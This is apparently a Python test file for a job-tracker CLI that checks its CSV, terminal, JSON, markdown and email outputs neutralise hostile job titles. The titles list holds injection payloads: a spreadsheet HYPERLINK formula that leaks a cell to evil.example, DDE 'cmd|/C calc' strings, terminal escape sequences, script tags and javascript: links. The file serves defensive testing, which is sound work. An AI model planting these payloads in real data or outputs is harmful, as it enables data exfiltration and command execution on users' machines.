"""Fault matrix, inert output: formula, escape, HTML and link titles from a loopback board,
checked in the CSV, the terminal table, the text and markdown reports and the email's text
part, each produced by a real ``tracker`` process."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta
from pathlib import Path

from tests.faults.hostile_servers import HostileServer, json_body, run_tracker
from tests.helpers import Cli, gh_job
from tests.jobs.boards import board_path, write_config, write_watchlist
from tests.jobs.smtp import SmtpServer
from tracker.report.serialize import iso
from tracker.settings import load_settings

TITLES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Data Center Technician")',
    "+cmd|' /C calc'!A0 Data Center Technician",
    "-2+3+cmd|' /C calc'!A0 Data Center Engineer",
    "@SUM(1+1)*cmd|' /C calc'!A0 Data Center Operations",
    "\t=1+1 Data Center Electrical Engineer",
    "\r=1+1 Data Center Mechanical Engineer",
    "\x1b[2J\x1b[31mData Center Operations Lead\x1b[0m\x07",
    "\x1b]8;;https://evil.example\x07Data Center Site Manager\x1b]8;;\x07",
    "<script>alert(1)</script> [Apply](javascript:alert(1)) Data Center | Critical Facilities",
    "\u202eData Center Controls Engineer\x9b31m",
]
BAD_BYTES = ("\x1b", "\x07", "\x9b", "\u202e", "\r", "\x00")


def hostile_board() -> dict[str, object]:
    jobs = []
    for i, title in enumerate(TITLES):
        job = gh_job(900 + i, title, location="Tokyo, Japan")
        job["absolute_url"] = "javascript:alert(1)" if i % 2 else f'=HYPERLINK("x","{i}")'
        jobs.append(job)
    return {"jobs": jobs, "meta": {"total": len(jobs)}}


def assert_no_controls(text: str) -> None:
    for bad in BAD_BYTES:
        assert bad not in text, repr(bad)


def test_hostile_titles_are_inert_in_every_output(tmp_path: Path) -> None:
    payload = tmp_path / "board.json"
    payload.write_text(json.dumps(hostile_board()))
    with HostileServer() as board, SmtpServer() as smtp:
        board.route(board_path("acme"), json_body(hostile_board()))
        config = write_config(
            tmp_path / "tracker.toml",
            scrape={"retries": 0, "timeout": 30},
            digest={"to": ["analyst@example.com"], "from": "tracker@example.com"},
            smtp={"host": "127.0.0.1", "port": smtp.port, "security": "none"},
        )
        db = f"sqlite:///{tmp_path / 'tracker.db'}"
        cli = Cli(db, config)
        cli(
            "sources",
            "import",
            str(write_watchlist(tmp_path / "w.toml", board.base(), {"acme": "Acme"})),
        )
        start, end = _period(config)
        observed = iso(end - timedelta(hours=1)) or ""

        def tracker(*args: str) -> str:
            ran = run_tracker(["--db", db, "--config", str(config), *args], tmp_path)
            assert ran.code == 0, ran.stdout + ran.stderr
            assert "Traceback" not in ran.stderr
            return ran.stdout

        tracker("ingest", str(payload), "--source", "greenhouse:acme", "--observed-at", observed)
        tracker("scrape")  # the same board from the loopback server: an ok run, nothing changes
        outputs = {
            "csv": tracker("roles", "--all", "--format", "csv"),
            "table": tracker("roles", "--all"),
            "json": tracker("roles", "--all", "--format", "json"),
            "text": tracker("diff", "--all", "--from", iso(start) or "", "--to", iso(end) or ""),
            "markdown": tracker(
                "diff", "--all", "--format", "markdown", "--from", iso(start) or "",
                "--to", iso(end) or "",
            ),
        }  # fmt: skip
        tracker("digest", "send", "--to", "analyst@example.com")
        [received] = smtp.messages
    text_part = received.message.get_body(preferencelist=("plain",))
    assert text_part is not None
    outputs["email text"] = text_part.get_content()
    for name, out in outputs.items():
        assert_no_controls(out)
        assert "Data Center Operations Lead" in out, name

    assert {r["title"] for r in json.loads(outputs["json"])} == {t.strip() for t in TITLES}
    rows = list(csv.DictReader(io.StringIO(outputs["csv"])))
    assert len(rows) == len(TITLES)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert {row["title"][:1] for row in rows} >= {"'"}

    markdown = outputs["markdown"]
    assert "<script" not in markdown and "&lt;script&gt;" in markdown
    assert not re.search(r"(?<!\\)\]\((?!https?://)", markdown)  # only http(s) links


def _period(config: Path):  # type: ignore[no-untyped-def]
    from jobs.digest import current_period

    return current_period(load_settings(str(config)))
